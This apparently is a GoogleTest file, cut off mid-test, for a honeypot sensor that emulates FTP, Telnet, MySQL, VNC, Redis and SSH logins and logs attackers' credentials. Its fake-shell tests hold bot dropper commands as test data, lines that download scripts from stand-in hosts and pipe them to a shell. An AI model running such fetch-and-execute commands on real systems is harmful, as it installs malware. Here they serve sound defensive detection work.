// The honeypot's services, each driven over a real socket on 127.0.0.1; what they log is
// read back from the inbox they ship to and decoded by the pipeline's own decoder.

#include "sensors/honeypot/honeypot.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <libssh/libssh.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/catalogue.h"
#include "pipeline/jsonl_decoder.h"
#include "sensors/honeypot/ftp/ftp.h"
#include "sensors/honeypot/mysql/mysql.h"
#include "sensors/honeypot/redis/redis.h"
#include "sensors/honeypot/shell/shell.h"
#include "sensors/honeypot/ssh/client_hello.h"
#include "sensors/honeypot/telnet/telnet.h"
#include "sensors/honeypot/vnc/vnc.h"

namespace vantage::honeypot {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

struct Decoded {
  std::string type;
  std::map<std::string, std::string> fields;
};

// Starts the named services on 127.0.0.1 (free ports), shipping into an inbox in a temp dir.
class HoneypotFixture : public ::testing::Test {
 protected:
  void start(const std::vector<std::string>& names) {
    dir_ = fs::temp_directory_path() /
           ("vantage_hp_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    std::vector<std::string> listen;
    for (const auto& n : names) listen.push_back(n + "=127.0.0.1:0");
    auto bindings = parse_listen(listen);
    ASSERT_TRUE(bindings.ok()) << bindings.error().message;
    sensors::SensorHostOptions ho;
    ho.sensor = "honeypot";
    ho.state_dir = (dir_ / "state").string();
    ho.tcp_threads = 2;
    ho.udp_threads = 1;
    ho.allow_root = true;  // the test process keeps its privileges; `vantage honeypot` drops
    ho.destination = sensors::inbox_destination((dir_ / "inbox").string());
    HoneypotSettings settings = settings_;
    settings.sensor_name = "test-honeypot";
    hp_ = Honeypot::create(settings, *bindings, std::move(ho));
    ASSERT_TRUE(hp_.ok()) << hp_.error().message;
    for (const auto& [name, at] : (*hp_)->bound()) ports_[name] = at.port;
  }
  void run() { ASSERT_TRUE((*hp_)->start().ok()); }
  std::vector<Decoded> events() {
    EXPECT_TRUE((*hp_)->host().flush(10s));
    std::vector<Decoded> out;
    const auto& catalogue = core::Catalogue::builtin();
    pipeline::JsonlDecoder decoder(catalogue, nullptr);
    std::vector<fs::path> files;
    for (const auto& e : fs::directory_iterator(dir_ / "inbox")) files.push_back(e.path());
    std::sort(files.begin(), files.end());
    for (const auto& f : files) {
      std::ifstream in(f);
      for (std::string line; std::getline(in, line);) {
        core::Event ev;
        pipeline::DecodeError err;
        EXPECT_TRUE(decoder.decode(line, ev, err))
            << err.field << ": " << err.reason << " in " << line;
        Decoded d;
        d.type = ev.type()->name;
        for (int c = 0; c < ev.size(); ++c) {
          if (!ev.is_null(c))
            d.fields[ev.type()->columns[static_cast<size_t>(c)].name] = ev.text(c);
        }
        out.push_back(std::move(d));
      }
    }
    return out;
  }
  int connect_to(const std::string& service) {
    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(ports_.at(service));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
    timeval tv{5, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    return fd;
  }
  static std::string exchange(int fd, std::string_view send, size_t expect_bytes) {
    EXPECT_EQ(::send(fd, send.data(), send.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(send.size()));
    std::string got;
    char buf[4096];
    while (got.size() < expect_bytes) {
      ssize_t n = ::recv(fd, buf, sizeof buf, 0);
      if (n <= 0) break;
      got.append(buf, static_cast<size_t>(n));
    }
    return got;
  }
  void TearDown() override {
    if (hp_.ok()) (*hp_)->stop();
    fs::remove_all(dir_);
  }

  fs::path dir_;
  HoneypotSettings settings_ = [] {
    HoneypotSettings s;
    s.idle_timeout = 2s;
    return s;
  }();  // a test may change it before start()
  Result<std::unique_ptr<Honeypot>> hp_{Error::internal("not started")};
  std::map<std::string, uint16_t> ports_;
};

TEST(HoneypotListen, ParsesEntriesAndDefaultsToLoopback) {
  auto all = parse_listen({});
  ASSERT_TRUE(all.ok());
  ASSERT_EQ(all->size(), builtin_services().size());
  for (const auto& b : *all) {
    EXPECT_EQ(b.at.ip.to_string(), "127.0.0.1");
    EXPECT_EQ(b.at.port, b.service->loopback_port);
  }
  auto one = parse_listen({"redis=[::1]:6379"});
  ASSERT_TRUE(one.ok());
  EXPECT_EQ((*one)[0].at.to_string(), "[::1]:6379");
  EXPECT_FALSE(parse_listen({"nosuch=127.0.0.1:1"}).ok());
  EXPECT_FALSE(parse_listen({"redis"}).ok());
  EXPECT_FALSE(parse_listen({"redis=127.0.0.1:99999"}).ok());
}

TEST(HoneypotServices, EveryServiceFillsOnlyItsCatalogueTypes) {
  const auto& catalogue = core::Catalogue::builtin();
  std::set<std::string> names;
  std::set<uint16_t> loopback_ports;
  for (const auto& s : builtin_services()) {
    EXPECT_TRUE(names.insert(s.name).second) << "duplicate service " << s.name;
    EXPECT_TRUE(loopback_ports.insert(s.loopback_port).second) << "shared loopback port " << s.name;
    EXPECT_GE(s.loopback_port, 1024) << s.name << ": `vantage up` runs unprivileged";
    EXPECT_FALSE(s.report_types.empty()) << s.name;
    for (const auto& t : s.report_types) EXPECT_NE(catalogue.find(t), nullptr) << t;
    EXPECT_TRUE(s.install) << s.name;
  }
}

TEST(RedisProtocol, ReadsRespAndInlineCommandsWithinBounds) {
  std::vector<std::string_view> args;
  size_t used = 0;
  std::string resp = "*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$6\r\nsecret\r\nPING\r\n";
  ASSERT_EQ(redis::parse_command(resp, args, used), redis::Parse::kComplete);
  ASSERT_EQ(args.size(), 3u);
  EXPECT_EQ(args[2], "secret");
  EXPECT_EQ(resp.substr(used), "PING\r\n");
  ASSERT_EQ(redis::parse_command(resp.substr(used), args, used), redis::Parse::kComplete);
  EXPECT_EQ(args[0], "PING");
  EXPECT_EQ(redis::parse_command("*2\r\n$4\r\nAUTH\r\n$10\r\nab", args, used),
            redis::Parse::kIncomplete);
  EXPECT_EQ(redis::parse_command("*2\r\n$4\r\nAUTHX\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command("*99999\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command("*1\r\n$-1\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command(std::string(70000, 'A'), args, used), redis::Parse::kMalformed);
}

TEST_F(HoneypotFixture, RedisLogsEveryAuthAttemptAndRefusesIt) {
  start({"redis"});
  run();
  int fd = connect_to("redis");
  EXPECT_EQ(exchange(fd, "PING\r\n", 1), "-NOAUTH Authentication required.\r\n");
  EXPECT_EQ(exchange(fd, "*2\r\n$4\r\nAUTH\r\n$6\r\nhunter\r\n", 1), "-ERR invalid password\r\n");
  std::string raw_pw = "p\xff\"w";
  std::string cmd = "*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$" + std::to_string(raw_pw.size()) +
                    "\r\n" + raw_pw + "\r\n";
  EXPECT_EQ(exchange(fd, cmd, 1),
            "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
  EXPECT_EQ(exchange(fd, "QUIT\r\n", 5), "+OK\r\n");
  ::close(fd);
  auto evs = events();
  ASSERT_EQ(evs.size(), 2u);
  for (const auto& e : evs) {
    EXPECT_EQ(e.type, "event4_honeypot_brute_force");
    EXPECT_EQ(e.fields.at("src_ip"), "127.0.0.1");
    EXPECT_EQ(e.fields.at("dst_port"), std::to_string(ports_["redis"]));
    EXPECT_EQ(e.fields.at("application"), "redis");
    EXPECT_EQ(e.fields.at("public_source"), "test-honeypot");
    EXPECT_EQ(e.fields.at("protocol"), "tcp");
  }
  EXPECT_EQ(evs[0].fields.at("password"), "hunter");
  EXPECT_EQ(evs[0].fields.count("username"), 0u);
  EXPECT_EQ(evs[1].fields.at("username"), "admin");
  EXPECT_EQ(evs[1].fields.at("password"), "p\\xff\"w");
}

// ---- Login services (ftp, telnet, mysql, vnc, ssh) ---------------------------------------

// Reads what the service sends until `want` appears (or 5 s pass); returns all of it.
std::string read_until(int fd, std::string_view want) {
  std::string got;
  char buf[4096];
  while (got.find(want) == std::string::npos) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    got.append(buf, static_cast<size_t>(n));
  }
  return got;
}

// Reads until `want` has appeared `times` times.
std::string read_times(int fd, std::string_view want, int times) {
  std::string got;
  char buf[4096];
  auto count = [&] {
    int n = 0;
    for (size_t p = got.find(want); p != std::string::npos; p = got.find(want, p + 1)) ++n;
    return n;
  };
  while (count() < times) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    got.append(buf, static_cast<size_t>(n));
  }
  return got;
}

void send_all(int fd, std::string_view bytes) {
  ASSERT_EQ(::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(bytes.size()));
}

// True once the peer closed the connection (read returns 0 or an error) within 5 s.
bool closed_by_peer(int fd) {
  char buf[4096];
  for (;;) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) return true;
    if (n < 0) return false;  // the 5 s receive timeout
  }
}

std::vector<Decoded> of_service(const std::vector<Decoded>& evs, const std::string& app) {
  std::vector<Decoded> out;
  for (const auto& e : evs)
    if (e.fields.count("application") && e.fields.at("application") == app) out.push_back(e);
  return out;
}

std::string field(const Decoded& e, const std::string& name) {
  auto it = e.fields.find(name);
  return it == e.fields.end() ? std::string() : it->second;
}

TEST(FtpCommand, SplitsVerbAndKeepsTheWholeArgument) {
  auto c = ftp::split_command("pass  two words ");
  EXPECT_EQ(c.verb, "PASS");
  EXPECT_EQ(c.arg, " two words ");
  EXPECT_EQ(ftp::split_command("QUIT").arg, "");
  EXPECT_EQ(ftp::split_command("averyveryverylongverb x").verb, "AVERYVER");
  std::string_view line;
  size_t used = 0;
  EXPECT_EQ(read_line("USER a\r\nPASS", 1024, line, used), LineRead::kComplete);
  EXPECT_EQ(line, "USER a");
  EXPECT_EQ(used, 8u);
  EXPECT_EQ(read_line("USER a", 1024, line, used), LineRead::kIncomplete);
  EXPECT_EQ(read_line(std::string(2000, 'x'), 1024, line, used), LineRead::kTooLong);
  EXPECT_EQ(read_line(std::string(1025, 'x') + "\n", 1024, line, used), LineRead::kTooLong);
}

TEST_F(HoneypotFixture, FtpLogsEveryUserPassPairAndClosesAfterMaxAttempts) {
  settings_.max_attempts = 3;
  start({"ftp"});
  run();
  int fd = connect_to("ftp");
  EXPECT_EQ(read_until(fd, "\r\n"), "220 (vsFTPd 3.0.3)\r\n");
  EXPECT_EQ(exchange(fd, "SYST\r\n", 1), "215 UNIX Type: L8\r\n");
  EXPECT_EQ(exchange(fd, "PASS early\r\n", 1), "503 Login with USER first.\r\n");
  // Pipelined, with a password holding spaces and one that is not UTF-8.
  send_all(fd, "USER root\r\nPASS two words\r\nuser admin\nPASS p\xff\xfe\r\n");
  EXPECT_EQ(read_times(fd, "530 Login incorrect.\r\n", 2),
            "331 Please specify the password.\r\n530 Login incorrect.\r\n"
            "331 Please specify the password.\r\n530 Login incorrect.\r\n");
  EXPECT_EQ(exchange(fd, "LIST\r\n", 1), "530 Please login with USER and PASS.\r\n");
  send_all(fd, "USER x\r\nPASS y\r\n");
  EXPECT_EQ(read_until(fd, "530 Login incorrect.\r\n"),
            "331 Please specify the password.\r\n530 Login incorrect.\r\n");
  EXPECT_TRUE(closed_by_peer(fd));  // the third refusal ends the connection
  ::close(fd);
  auto evs = of_service(events(), "ftp");
  ASSERT_EQ(evs.size(), 3u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "two words");
  EXPECT_EQ(field(evs[1], "username"), "admin");
  EXPECT_EQ(field(evs[1], "password"), "p\\xff\\xfe");
  EXPECT_EQ(field(evs[2], "username"), "x");
  for (const auto& e : evs) {
    EXPECT_EQ(e.type, "event4_honeypot_brute_force");
    EXPECT_EQ(field(e, "service"), "ftp");
    EXPECT_EQ(field(e, "tag"), "ftp-brute-force");
    EXPECT_EQ(field(e, "dst_port"), std::to_string(ports_["ftp"]));
    EXPECT_FALSE(field(e, "start_time").empty());
    EXPECT_FALSE(field(e, "end_time").empty());
  }
  // One connection: one id, attempts numbered.
  std::string id = field(evs[0], "event_id");
  ASSERT_EQ(id.size(), 18u);
  EXPECT_EQ(id.substr(16), "-1");
  EXPECT_EQ(field(evs[2], "event_id"), id.substr(0, 16) + "-3");
}

TEST_F(HoneypotFixture, FtpBoundsLinesAndKeepsWhatWasLogged) {
  settings_.extra_tag = "demo";
  start({"ftp"});
  run();
  int fd = connect_to("ftp");
  read_until(fd, "\r\n");
  send_all(fd, "USER a\r\nPASS b\r\n");
  read_until(fd, "530");
  send_all(fd, "USER " + std::string(5000, 'A'));  // no end of line, ever
  EXPECT_NE(read_until(fd, "500").find("500 Input line too long."), std::string::npos);
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "ftp");
  ASSERT_EQ(evs.size(), 1u);
  EXPECT_EQ(field(evs[0], "password"), "b");
  EXPECT_EQ(field(evs[0], "tag"), "ftp-brute-force,demo");  // honeypot.extra_tag
}

TEST(TelnetReader, SplitsNegotiationsSubnegotiationsAndLines) {
  telnet::Reader r;
  std::vector<telnet::Item> items;
  std::string echo;
  // WILL TTYPE, SB TTYPE IS "XTERM" with an escaped IAC, SB NAWS 80x24, then a line with a
  // backspace, ended by CR NUL.
  using namespace std::string_literals;
  std::string in =
      "\xff\xfb\x18\xff\xfa\x18\x00XT\xff\xff"
      "ERM\xff\xf0\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
      "roox\x08t\r\0pw"s;
  size_t used = r.feed(in, items, &echo);
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kNegotiation);
  EXPECT_EQ(items[0].command, telnet::kWill);
  EXPECT_EQ(items[0].option, telnet::kOptTtype);
  EXPECT_EQ(items[1].kind, telnet::Item::Kind::kSubnegotiation);
  std::string name;
  ASSERT_TRUE(telnet::parse_ttype(items[1].text, name));
  EXPECT_EQ(name,
            "XT\xff"
            "ERM");
  uint16_t w = 0, h = 0;
  ASSERT_TRUE(telnet::parse_naws(items[2].text, w, h));
  EXPECT_EQ(w, 80);
  EXPECT_EQ(h, 24);
  EXPECT_EQ(items[3].text, "root");
  EXPECT_EQ(echo, "roox\b \bt\r\n");
  // It stopped after the line; the CR NUL and "pw" come next, "pw" kept as a partial line.
  items.clear();
  std::string rest = in.substr(used);
  EXPECT_EQ(r.feed(rest, items, nullptr), rest.size());
  EXPECT_TRUE(items.empty());
  EXPECT_EQ(r.feed("\n", items, nullptr), 1u);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].text, "pw");
  // An IAC sequence cut short is left for later; oversized lines and subnegotiations stop it.
  items.clear();
  EXPECT_EQ(r.feed("ab\xff\xfa\x18", items, nullptr), 2u);
  telnet::Reader small(telnet::Limits{8, 4});
  items.clear();
  small.feed(std::string(20, 'x'), items, nullptr);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
  items.clear();
  telnet::Reader small2(telnet::Limits{8, 4});
  small2.feed("\xff\xfa\x18" + std::string(10, 'y'), items, nullptr);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
  EXPECT_FALSE(telnet::parse_naws("abc", w, h));
  EXPECT_FALSE(telnet::parse_ttype("\x01", name));
}

TEST_F(HoneypotFixture, TelnetLogsLoginsWithTheTerminalType) {
  settings_.max_attempts = 2;
  start({"telnet"});
  run();
  int fd = connect_to("telnet");
  std::string hello = read_until(fd, "Username: ");
  EXPECT_EQ(hello.substr(0, 12), "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f");
  send_all(fd, "\xff\xfb\x18\xff\xfd\x05");  // WILL TTYPE, DO STATUS
  std::string asked = read_until(fd, "\xff\xfc\x05");
  EXPECT_NE(asked.find("\xff\xfa\x18\x01\xff\xf0"), std::string::npos);  // SB TTYPE SEND
  send_all(fd, std::string("\xff\xfa\x18\x00VT100\xff\xf0", 11));
  send_all(fd, "root\r\n");
  EXPECT_NE(read_until(fd, "Password: ").find("root\r\nPassword: "), std::string::npos);
  send_all(fd, std::string("s3cret\r\0", 8));
  std::string failed = read_until(fd, "Username: ");
  EXPECT_EQ(failed.find("s3cret"), std::string::npos);  // a password is not echoed
  EXPECT_NE(failed.find("Login incorrect"), std::string::npos);
  send_all(fd, "admin\radx\x7fmin\r");
  EXPECT_NE(read_until(fd, "Login incorrect\r\n").find("Login incorrect"), std::string::npos);
  EXPECT_TRUE(closed_by_peer(fd));  // max_attempts = 2
  ::close(fd);
  auto evs = of_service(events(), "telnet");
  ASSERT_EQ(evs.size(), 2u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "s3cret");
  EXPECT_EQ(field(evs[0], "client_version"), "VT100");
  EXPECT_EQ(field(evs[1], "username"), "admin");
  EXPECT_EQ(field(evs[1], "password"), "admin");
  EXPECT_EQ(field(evs[1], "tag"), "telnet-brute-force");
}

TEST(FakeShell, FindsTheUrlsBotsFetchAndRunsNothing) {
  auto urls = shell::fetch_urls(
      "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; "
      "sh bins.sh; busybox tftp -g -r mips 203.0.113.9; tftp 203.0.113.9 -c get arm7; "
      "curl -o x.sh -A 'Mozilla' https://evil.example/x.sh|sh; /bin/busybox wget -O- "
      "evil.example:8080/y; ftpget -u a -p b 192.0.2.1 local.bin remote.bin; echo http://no");
  std::vector<std::string> want = {"http://198.51.100.7/bins.sh", "tftp://203.0.113.9/mips",
                                   "tftp://203.0.113.9/arm7",     "https://evil.example/x.sh",
                                   "http://evil.example:8080/y",  "ftp://192.0.2.1/remote.bin"};
  EXPECT_EQ(urls, want);
  auto r = shell::respond("uname -a; whoami; /bin/busybox ECCHI; nosuch", "root");
  EXPECT_NE(r.output.find("Linux server"), std::string::npos);
  EXPECT_NE(r.output.find("root\n"), std::string::npos);
  EXPECT_NE(r.output.find("ECCHI: applet not found"), std::string::npos);
  EXPECT_NE(r.output.find("nosuch: command not found"), std::string::npos);
  EXPECT_FALSE(r.exit);
  EXPECT_TRUE(shell::respond("ls; exit; wget http://after.example/", "root").exit);
  std::string many;
  for (int i = 0; i < 40; ++i) many += "wget http://h" + std::to_string(i) + ".example/;";
  EXPECT_EQ(shell::fetch_urls(many).size(), shell::kMaxUrls);
  EXPECT_EQ(shell::fetch_urls("wget http://" + std::string(5000, 'a'))[0].size(),
            shell::kMaxUrlBytes);
}

TEST_F(HoneypotFixture, TelnetMediumModeShellLogsUrlsAndFetchesNothing) {
  settings_.mode = "medium";
  start({"telnet"});
  run();
  int fd = connect_to("telnet");
  read_until(fd, "Username: ");
  send_all(fd, "guest\r\n");
  read_until(fd, "Password: ");
  send_all(fd, "guest\r\n");
  read_until(fd, "Username: ");  // not root/admin: refused as in low mode
  send_all(fd, "root\r\n");
  read_until(fd, "Password: ");
  send_all(fd, "vizxv\r\n");
  EXPECT_NE(read_until(fd, "# ").find("root@server:~# "), std::string::npos);
  send_all(fd, "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\r\n");
  std::string out = read_until(fd, "# ");
  EXPECT_NE(out.find("unable to resolve host address '198.51.100.7'"), std::string::npos);
  send_all(fd, "exit\r\n");
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "telnet");
  ASSERT_EQ(evs.size(), 3u);
  EXPECT_EQ(field(evs[0], "tag"), "telnet-brute-force");
  EXPECT_EQ(field(evs[1], "tag"), "telnet-login");
  EXPECT_EQ(field(evs[1], "password"), "vizxv");
  EXPECT_EQ(field(evs[2], "tag"), "telnet-payload");
  EXPECT_EQ(field(evs[2], "payload_url"), "http://198.51.100.7/x.sh");
  EXPECT_EQ(field(evs[2], "username"), "");
}

// mysql_native_password's answer (the MySQL manual): SHA1(pw) XOR SHA1(salt + SHA1(SHA1(pw))).
std::string native_scramble(std::string_view salt, std::string_view pw) {
  auto sha1 = [](std::string_view in) {
    unsigned char d[EVP_MAX_MD_SIZE];
    unsigned int n = 0;
    EVP_Digest(in.data(), in.size(), d, &n, EVP_sha1(), nullptr);
    return std::string(reinterpret_cast<char*>(d), n);
  };
  std::string h1 = sha1(pw), h2 = sha1(h1), h3 = sha1(std::string(salt) + h2);
  for (size_t i = 0; i < h1.size(); ++i) h1[i] = static_cast<char>(h1[i] ^ h3[i]);
  return h1;
}

// The greeting's 20-byte salt: 8 bytes after the connection id, 12 after the reserved bytes.
std::string greeting_salt(std::string_view g) {
  size_t v = g.find('\0', 5);
  std::string salt(g.substr(v + 5, 8));
  salt += g.substr(v + 5 + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10, 12);
  return salt;
}

std::string handshake41(uint32_t caps, std::string_view user, std::string_view auth,
                        std::string_view plugin, std::string_view attrs = {}) {
  std::string p;
  for (int i = 0; i < 4; ++i) p.push_back(static_cast<char>((caps >> (8 * i)) & 0xff));
  p.append("\x00\x00\x00\x01\x21", 5);
  p.append(23, '\0');
  p.append(user).push_back('\0');
  p.push_back(static_cast<char>(auth.size()));
  p.append(auth);
  if (!plugin.empty()) p.append(plugin).push_back('\0');
  if (!attrs.empty()) {
    p.push_back(static_cast<char>(attrs.size()));
    p.append(attrs);
  }
  return mysql::packet(1, p);
}

TEST(MysqlProtocol, ReadsHandshakeResponsesOldAndNew) {
  using namespace mysql;
  std::string_view payload;
  uint8_t seq = 0;
  size_t used = 0;
  std::string attrs = std::string(
      "\x0c_client_name\x08libmysql\x0f_client_version\x06"
      "8.0.36",
      45);
  std::string pkt = handshake41(
      kClientProtocol41 | kClientSecureConnection | kClientPluginAuth | kClientConnectAttrs, "root",
      "01234567890123456789", "caching_sha2_password", attrs);
  std::string with_more = pkt + "extra";
  ASSERT_EQ(read_packet(with_more, payload, seq, used), Parse::kComplete);
  EXPECT_EQ(seq, 1);
  EXPECT_EQ(used, pkt.size());
  HandshakeResponse hr;
  ASSERT_TRUE(parse_handshake_response(payload, hr));
  EXPECT_EQ(hr.username, "root");
  EXPECT_EQ(hr.auth_response, "01234567890123456789");
  EXPECT_EQ(hr.plugin, "caching_sha2_password");
  EXPECT_EQ(hr.client_name, "libmysql");
  EXPECT_EQ(hr.client_version, "8.0.36");
  // 3.20 form: 2-byte capabilities, 3-byte max packet, user, scrambled answer.
  std::string old(
      "\x05\x00\xff\xff\x00sa\x00"
      "ABCDEFGH",
      16);
  ASSERT_TRUE(parse_handshake_response(old, hr));
  EXPECT_EQ(hr.username, "sa");
  EXPECT_EQ(hr.auth_response, "ABCDEFGH");
  // SSLRequest, truncated and oversized packets.
  std::string ssl(32, '\0');
  ssl[0] = 0x00;
  ssl[1] = 0x0a;  // PROTOCOL_41 | SSL in the low 16 bits
  ssl[1] = static_cast<char>((kClientProtocol41 | kClientSsl) >> 8);
  ASSERT_TRUE(parse_handshake_response(ssl, hr));
  EXPECT_TRUE(hr.ssl_request);
  EXPECT_FALSE(parse_handshake_response(std::string("\x00\x02\x00", 3), hr));
  EXPECT_EQ(read_packet(std::string("\x10\x00\x00\x01"
                                    "abc",
                                    7),
                        payload, seq, used),
            Parse::kIncomplete);
  EXPECT_EQ(read_packet(std::string("\xff\xff\xff\x01", 4), payload, seq, used), Parse::kMalformed);
  EXPECT_EQ(native_notation("ab", "\x01\xff"), "$mysqlna$6162*01ff");
}

TEST_F(HoneypotFixture, MysqlLogsTheScrambleAClearPasswordAndSwitchesOtherMethods) {
  start({"mysql"});
  run();
  constexpr uint32_t kCaps =
      mysql::kClientProtocol41 | mysql::kClientSecureConnection | mysql::kClientPluginAuth;
  // mysql_native_password: the salt and the answer are logged, the answer checks out.
  int fd = connect_to("mysql");
  std::string g = read_until(fd, "mysql_native_password");
  ASSERT_GT(g.size(), 60u);
  EXPECT_EQ(g[4], 10);  // protocol 10
  std::string salt = greeting_salt(g.substr(4));
  std::string answer = native_scramble(salt, "hunter2");
  std::string err = exchange(fd, handshake41(kCaps, "root", answer, "mysql_native_password"), 60);
  EXPECT_NE(err.find("Access denied for user 'root'@'127.0.0.1' (using password: YES)"),
            std::string::npos);
  EXPECT_EQ(static_cast<uint8_t>(err[4]), 0xff);
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  // mysql_clear_password: the password itself.
  fd = connect_to("mysql");
  read_until(fd, "mysql_native_password");
  exchange(fd, handshake41(kCaps, "admin", std::string("pl@in\0", 6), "mysql_clear_password"), 40);
  ::close(fd);
  // caching_sha2_password: asked to switch to mysql_native_password, then logged.
  fd = connect_to("mysql");
  g = read_until(fd, "mysql_native_password");
  std::string salt3 = greeting_salt(g.substr(4));
  std::string sw =
      exchange(fd, handshake41(kCaps, "dba", std::string(32, 'x'), "caching_sha2_password"), 30);
  ASSERT_GE(sw.size(), 5u);
  EXPECT_EQ(sw[3], 2);  // sequence number
  EXPECT_EQ(static_cast<uint8_t>(sw[4]), 0xfe);
  EXPECT_NE(sw.find("mysql_native_password"), std::string::npos);
  std::string answer3 = native_scramble(salt3, "letmein");
  exchange(fd, mysql::packet(3, answer3), 40);
  ::close(fd);
  auto evs = of_service(events(), "mysql");
  ASSERT_EQ(evs.size(), 3u);
  std::map<std::string, std::string> by_user;  // connections may land on either loop thread
  for (const auto& e : evs) by_user[field(e, "username")] = field(e, "password");
  EXPECT_EQ(by_user["root"], mysql::native_notation(salt, answer));
  EXPECT_EQ(by_user["admin"], "pl@in");
  EXPECT_EQ(by_user["dba"], mysql::native_notation(salt3, answer3));
}

TEST_F(HoneypotFixture, VncLogsChallengeAndResponseIn38And33) {
  start({"vnc"});
  run();
  int fd = connect_to("vnc");
  EXPECT_EQ(read_until(fd, "\n"), "RFB 003.008\n");
  EXPECT_EQ(exchange(fd, "RFB 003.008\n", 2), std::string("\x01\x02", 2));
  std::string challenge = exchange(fd, std::string(1, '\x02'), 16);
  ASSERT_EQ(challenge.size(), 16u);
  std::string response = "0123456789abcdef";
  send_all(fd, response);
  std::string result = read_until(fd, "failed");
  EXPECT_EQ(result, std::string("\0\0\0\x01\0\0\0\x15"
                                "Authentication failed",
                                29));
  ::close(fd);
  fd = connect_to("vnc");
  read_until(fd, "\n");
  std::string c33 = exchange(fd, "RFB 003.003\n", 20);
  ASSERT_EQ(c33.size(), 20u);
  EXPECT_EQ(c33.substr(0, 4), std::string("\0\0\0\x02", 4));  // 3.3: the server picks type 2
  exchange(fd, std::string(16, 'z'), 4);
  ::close(fd);
  fd = connect_to("vnc");  // not RFB: closed, nothing logged
  read_until(fd, "\n");
  send_all(fd, "GET / HTTP/1.0\r\n");
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "vnc");
  ASSERT_EQ(evs.size(), 2u);
  EXPECT_EQ(field(evs[0], "password"), vnc::john_notation(challenge, response));
  EXPECT_EQ(field(evs[0], "client_version"), "RFB 003.008");
  EXPECT_EQ(field(evs[0], "username"), "");
  EXPECT_EQ(field(evs[1], "password"), vnc::john_notation(c33.substr(4), std::string(16, 'z')));
  EXPECT_EQ(field(evs[1], "client_version"), "RFB 003.003");
  EXPECT_EQ(vnc::john_notation("\x01\xab", "\xff"), "$vnc$*01AB*FF");
}

std::string ssh_string(std::string_view s) {
  std::string out;
  for (int i = 3; i >= 0; --i) out.push_back(static_cast<char>((s.size() >> (8 * i)) & 0xff));
  return out.append(s);
}

TEST(SshClientHello, ReadsIdentAndKexinitAndComputesHassh) {
  std::string payload(1, '\x14');
  payload += std::string(16, 'c');
  for (const char* l : {"curve25519-sha256,ecdh-sha2-nistp256", "ssh-ed25519", "aes128-ctr",
                        "aes256-ctr", "hmac-sha2-256", "hmac-sha1", "none", "zlib", "", ""})
    payload += ssh_string(l);
  payload += std::string(5, '\0');
  size_t pad = 8 - ((5 + payload.size()) % 8);
  if (pad < 4) pad += 8;
  std::string packet =
      ssh_string(std::string(1, static_cast<char>(pad)) + payload + std::string(pad, '\0'));
  std::string hello = "SSH-2.0-Go\r\n" + packet;
  ssh::ClientHello h;
  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-G", h), ssh::HelloParse::kIncomplete);
  EXPECT_EQ(ssh::parse_client_hello(hello.substr(0, 20), h), ssh::HelloParse::kIdentOnly);
  ASSERT_EQ(ssh::parse_client_hello(hello, h), ssh::HelloParse::kComplete);
  EXPECT_EQ(h.ident, "SSH-2.0-Go");
  EXPECT_EQ(h.kex_algorithms(), "curve25519-sha256,ecdh-sha2-nistp256");
  EXPECT_EQ(h.hassh_algorithms,
            "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none");
  EXPECT_EQ(h.hassh, "88189635a3ee7c7f0c02224b7a2e1292");  // hashlib.md5 of the line above
  // Garbage, an SSH-1 client, a packet that is not KEXINIT, an oversized length.
  EXPECT_EQ(ssh::parse_client_hello(std::string(2000, 'x'), h), ssh::HelloParse::kInvalid);
  EXPECT_EQ(ssh::parse_client_hello("SSH-1.5-old\r\n", h), ssh::HelloParse::kInvalid);
  std::string not_kex = hello;
  not_kex[12 + 5] = 21;
